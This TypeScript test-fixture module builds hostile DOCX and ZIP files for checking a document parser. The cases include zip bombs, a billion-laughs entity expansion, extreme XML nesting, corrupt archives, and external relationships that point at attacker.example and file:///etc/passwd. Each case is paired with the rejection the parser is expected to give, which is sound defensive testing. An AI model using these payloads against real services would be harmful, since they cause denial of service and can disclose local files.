/** Hostile DOCX packages and ZIP containers. */
import { concatBytes, type MaliciousCase } from './case.js';
import {
  docxEntries,
  documentXml,
  encode,
  paragraphs,
  relationships,
  RESUME_LINES,
  W_NS,
} from './docx-parts.js';
import { buildOverlappingZip, buildZip } from './zip-writer.js';

const resumeDocument = () => documentXml(paragraphs(RESUME_LINES));

export const VALID_DOCX = buildZip(docxEntries(resumeDocument())).bytes;

export function docxBytesForPolyglot(): Uint8Array {
  return VALID_DOCX;
}

function billionLaughs(): string {
  const entities = ['<!ENTITY lol0 "lol">'];
  for (let level = 1; level <= 9; level++) {
    entities.push(`<!ENTITY lol${level} "${`&lol${level - 1};`.repeat(10)}">`);
  }
  const prolog = `<!DOCTYPE w:document [\n${entities.join('\n')}\n]>\n`;
  return documentXml(paragraphs(['Jane Smith', '&lol9;']), prolog);
}

function externalRelationshipsDocx(): Uint8Array {
  const settings = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:settings xmlns:w="${W_NS}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId1"/></w:settings>`;
  const documentRels = relationships([
    { id: 'rId1', type: 'settings', target: 'settings.xml' },
    { id: 'rId2', type: 'frame', target: 'file:///etc/passwd', isExternal: true },
    { id: 'rId3', type: 'image', target: 'http://attacker.example/track.png', isExternal: true },
  ]);
  const settingsRels = relationships([
    {
      id: 'rId1',
      type: 'attachedTemplate',
      target: 'http://attacker.example/template.dotm',
      isExternal: true,
    },
  ]);
  return buildZip(
    docxEntries(resumeDocument(), [
      { name: 'word/_rels/document.xml.rels', data: encode(documentRels) },
      { name: 'word/settings.xml', data: encode(settings) },
      { name: 'word/_rels/settings.xml.rels', data: encode(settingsRels) },
    ]),
  ).bytes;
}

/** document.xml padded with one 30 MiB run of text: compresses about 1000:1. */
function bombDocument(size: number): Uint8Array {
  const head = encode(
    documentXml('<w:p><w:r><w:t>').replace('</w:t></w:r></w:p></w:body></w:document>', ''),
  );
  const tail = encode('</w:t></w:r></w:p></w:body></w:document>');
  const filler = new Uint8Array(size - head.length - tail.length).fill(0x41);
  return concatBytes([head, filler, tail]);
}

function manyEntriesDocx(count: number): Uint8Array {
  const extra = Array.from({ length: count }, (_, n) => ({
    name: `x/${n.toString(36)}`,
    data: new Uint8Array(0),
    isStored: true,
  }));
  return buildZip(docxEntries(resumeDocument(), extra)).bytes;
}

function truncatedCentralDirectory(): Uint8Array {
  const zip = buildZip(docxEntries(resumeDocument()));
  return zip.bytes.subarray(0, zip.centralOffset + Math.floor(zip.centralSize / 2));
}

export function docxCases(): MaliciousCase[] {
  // 35,000 levels: far past any sane depth, yet under 256 KiB so the ratio rule does not fire first.
  const deepXml = documentXml(
    `${'<a>'.repeat(35_000)}${'</a>'.repeat(35_000)}${paragraphs(RESUME_LINES)}`,
  );
  const lying = bombDocument(30 * 1024 * 1024);
  return [
    {
      file: 'zip-bomb.docx',
      description:
        'word/document.xml declares 30 MiB compressed about 1000:1 (ratio limit is 200).',
      expect: { error: 'ARCHIVE_LIMIT_EXCEEDED' },
      bytes: buildZip([...docxEntries('').slice(0, 2), { name: 'word/document.xml', data: lying }])
        .bytes,
    },
    {
      file: 'zip-bomb-lying-size.docx',
      description:
        'word/document.xml declares 8 KiB but inflates to 30 MiB: the inflater must stop at the declared size.',
      expect: { error: 'ARCHIVE_LIMIT_EXCEEDED' },
      bytes: buildZip([
        ...docxEntries('').slice(0, 2),
        { name: 'word/document.xml', data: lying, declaredSize: 8192 },
      ]).bytes,
    },
    {
      file: 'overlapping-entries.docx',
      description:
        'A stored entry whose data is the whole local entry of word/document.xml: both are listed, so their bytes overlap (names all agree).',
      expect: { error: 'ARCHIVE_LIMIT_EXCEEDED' },
      bytes: buildOverlappingZip(docxEntries('').slice(0, 2), 'word/media/wrapper.bin', {
        name: 'word/document.xml',
        data: encode(resumeDocument()),
      }).bytes,
    },
    {
      file: 'aliased-entries.docx',
      description:
        '200 extra central-directory names point at the local header of word/document.xml (central and local names disagree).',
      expect: { error: 'DOCX_CORRUPT' },
      bytes: buildZip(docxEntries(resumeDocument()), {
        aliases: Array.from({ length: 200 }, (_, n) => ({ name: `word/alias${n}.xml`, target: 2 })),
      }).bytes,
    },
    {
      file: 'billion-laughs.docx',
      description:
        'document.xml declares nested entities expanding to 10^9 "lol"s (billion laughs).',
      expect: { error: 'XML_FORBIDDEN' },
      bytes: buildZip(docxEntries(billionLaughs())).bytes,
    },
    {
      file: 'xml-deep-nesting.docx',
      description: 'document.xml nests an element 35,000 deep before the resume text.',
      expect: { error: 'XML_FORBIDDEN' },
      bytes: buildZip(docxEntries(deepXml)).bytes,
    },
    {
      file: 'external-relationships.docx',
      description:
        'attachedTemplate -> http://, a frame -> file:///etc/passwd and a remote image: none may be fetched.',
      expect: { result: true, diagnostic: 'docx.external-relationships' },
      bytes: externalRelationshipsDocx(),
    },
    {
      file: 'entries-10000.docx',
      description: 'A valid DOCX plus 10,000 empty stored entries (entry limit is 1,000).',
      expect: { error: 'ARCHIVE_LIMIT_EXCEEDED' },
      bytes: manyEntriesDocx(10_000),
    },
    {
      file: 'truncated-central-directory.docx',
      description:
        'A DOCX cut in the middle of its central directory: no end-of-central-directory record.',
      expect: { error: 'DOCX_CORRUPT' },
      bytes: truncatedCentralDirectory(),
    },
    {
      file: 'crc-mismatch.docx',
      description: 'word/document.xml stored with a flipped byte, so its CRC-32 does not match.',
      expect: { error: 'DOCX_CORRUPT' },
      bytes: flipStoredByte(),
    },
    {
      file: 'docx-named.pdf',
      description: 'A valid DOCX named .pdf (declared name disagrees with content).',
      expect: { error: 'TYPE_MISMATCH' },
      bytes: VALID_DOCX,
    },
  ];
}

function flipStoredByte(): Uint8Array {
  const document = encode(resumeDocument());
  const stored = { name: 'word/document.xml', data: document, isStored: true };
  const zip = buildZip([...docxEntries('').slice(0, 2), stored]);
  const bytes = zip.bytes.slice();
  // The stored document is the last entry: flip a byte just before the central directory.
  const at = zip.centralOffset - 50;
  bytes[at] = bytes[at]! ^ 0x01;
  return bytes;
}
